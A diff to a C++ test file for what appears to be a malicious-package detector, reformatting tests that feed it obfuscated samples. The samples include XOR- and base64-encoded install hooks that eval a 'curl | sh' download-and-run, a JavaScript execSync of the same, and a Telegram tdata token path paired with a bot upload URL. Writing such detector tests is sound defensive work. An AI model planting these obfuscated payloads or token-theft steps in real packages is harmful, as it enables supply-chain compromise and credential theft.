@@ -341,25 +341,28 @@ std::string escaped_xor(std::string_view text, std::string_view key) {
 TEST(Signals, a_payload_xored_with_a_key_written_above_its_loop_is_decoded_executed) {
   // The install command's shape of the tuning half's pyminor: the key a string of digits.
   const std::string key = "97428596526305666093";
-  const auto facts = py("class InstallCommand(install):\n"
-                        "    def run(self):\n"
-                        "        blob = \"" +
-                        escaped_xor("import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n", key) +
-                        "\"\n"
-                        "        k = \"" +
-                        key +
-                        "\"\n"
-                        "        out = ''\n"
-                        "        for i in range(len(blob)):\n"
-                        "            out += chr(ord(blob[i]) ^ ord(k[i % len(k)]))\n"
-                        "        eval(compile(out, '<string>', 'exec'))\n");
-  expect_facts(facts, {{FactKind::kShell, "download-piped-to-shell", 3, "decoded (xor): curl -fsSL http://127.0.0.1/i | sh"},
-                       {FactKind::kDecodedExecuted, "xor", 3,
-                        excerpt("xor: import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n")}});
+  const auto facts =
+      py("class InstallCommand(install):\n"
+         "    def run(self):\n"
+         "        blob = \"" +
+         escaped_xor("import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n", key) +
+         "\"\n"
+         "        k = \"" +
+         key +
+         "\"\n"
+         "        out = ''\n"
+         "        for i in range(len(blob)):\n"
+         "            out += chr(ord(blob[i]) ^ ord(k[i % len(k)]))\n"
+         "        eval(compile(out, '<string>', 'exec'))\n");
+  expect_facts(facts,
+               {{FactKind::kShell, "download-piped-to-shell", 3, "decoded (xor): curl -fsSL http://127.0.0.1/i | sh"},
+                {FactKind::kDecodedExecuted, "xor", 3,
+                 excerpt("xor: import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n")}});
   // One byte, written as a number after the caret, in JavaScript.
-  const auto js_facts = js("const p = '" + escaped_xor("require('child_process').execSync('curl -s http://127.0.0.1/x | sh')", "*") +
-                           "';\n"
-                           "eval([...p].map(c => String.fromCharCode(c.charCodeAt(0) ^ 42)).join(''));\n");
+  const auto js_facts =
+      js("const p = '" + escaped_xor("require('child_process').execSync('curl -s http://127.0.0.1/x | sh')", "*") +
+         "';\n"
+         "eval([...p].map(c => String.fromCharCode(c.charCodeAt(0) ^ 42)).join(''));\n");
   ASSERT_FALSE(js_facts.empty());
   EXPECT_EQ(fact_name(js_facts.back().kind), "decoded-executed") << ::testing::PrintToString(js_facts);
   EXPECT_EQ(js_facts.back().what, "xor");
@@ -368,12 +371,17 @@ TEST(Signals, a_payload_xored_with_a_key_written_above_its_loop_is_decoded_execu
 TEST(Signals, a_base64_payload_cut_into_strings_joined_before_decoding_is_decoded_as_one) {
   // code-helper's shape: each function returns a piece, exec is called by another name.
   const std::string b = b64("import os\nos.system('curl -fsSL http://127.0.0.1/i | sh')\n");
-  const auto facts = py("import base64\n"
-                        "def one():\n    return \"" + b.substr(0, 31) + "\"\n"
-                        "def two():\n    return \"" + b.substr(31) + "\"\n"
-                        "def demo():\n"
-                        "    a=exec\n"
-                        "    a(base64.b64decode(one() + two()))\n");
+  const auto facts =
+      py("import base64\n"
+         "def one():\n    return \"" +
+         b.substr(0, 31) +
+         "\"\n"
+         "def two():\n    return \"" +
+         b.substr(31) +
+         "\"\n"
+         "def demo():\n"
+         "    a=exec\n"
+         "    a(base64.b64decode(one() + two()))\n");
   auto has = [&](FactKind k, std::string_view what) {
     return std::any_of(facts.begin(), facts.end(), [&](const Fact& f) { return f.kind == k && f.what == what; });
   };
@@ -387,15 +395,17 @@ TEST(Signals, a_long_xor_key_needs_code_of_the_text_and_a_one_byte_key_a_payload
   // key of 20 bytes that makes code of a string is the file's own; `^ 32` flips letter case
   // and must find a payload's two markers.
   const std::string text = "import zipfile\nfrom ftplib import FTP\nprint(os.getlogin())\n";
-  const auto keyed = py("w = \"" + escaped_xor(text, "95920699750877648514") + "\"\nk = \"95920699750877648514\"\n"
+  const auto keyed = py("w = \"" + escaped_xor(text, "95920699750877648514") +
+                        "\"\nk = \"95920699750877648514\"\n"
                         "o = ''.join(chr(ord(c) ^ ord(k[i % len(k)])) for i, c in enumerate(w))\n"
                         "eval(compile(o, '<string>', 'exec'))\n");
   ASSERT_FALSE(keyed.empty());
   EXPECT_EQ(fact_name(keyed.back().kind), "decoded-executed") << ::testing::PrintToString(keyed);
   EXPECT_EQ(keyed.back().what, "xor");
-  const auto flipped = py("w = \"" + escaped_xor(text, " ") + "\"\n"
-                           "o = ''.join(chr(ord(c) ^ 32) for c in w)\n"
-                           "eval(compile(o, '<string>', 'exec'))\n");
+  const auto flipped = py("w = \"" + escaped_xor(text, " ") +
+                          "\"\n"
+                          "o = ''.join(chr(ord(c) ^ 32) for c in w)\n"
+                          "eval(compile(o, '<string>', 'exec'))\n");
   EXPECT_TRUE(std::none_of(flipped.begin(), flipped.end(), [](const Fact& f) { return f.what == "xor"; }))
       << ::testing::PrintToString(flipped);
 }
@@ -759,10 +769,11 @@ TEST(Signals, chromiums_login_data_is_a_path_component_not_the_english_words) {
 
 TEST(Signals, telegrams_tdata_is_a_token_store_as_a_path_component_and_not_inside_a_word) {
   // httpsyncer (tuning half) joins it as a component of its own; the bot API is the channel.
-  expect_facts(py("import os\n"
-                  "p = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata')\n"
-                  "u = f'https://api.telegram.org/bot{t}/sendDocument'\n"),
-               {{FactKind::kCollect, "token-store", 2, "tdata"}, {FactKind::kSend, "telegram", 3, "api.telegram.org/bot"}});
+  expect_facts(
+      py("import os\n"
+         "p = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata')\n"
+         "u = f'https://api.telegram.org/bot{t}/sendDocument'\n"),
+      {{FactKind::kCollect, "token-store", 2, "tdata"}, {FactKind::kSend, "telegram", 3, "api.telegram.org/bot"}});
   EXPECT_TRUE(py("cols = ['tdatabase', 'metadata/tdatax']\n").empty());
 }
 
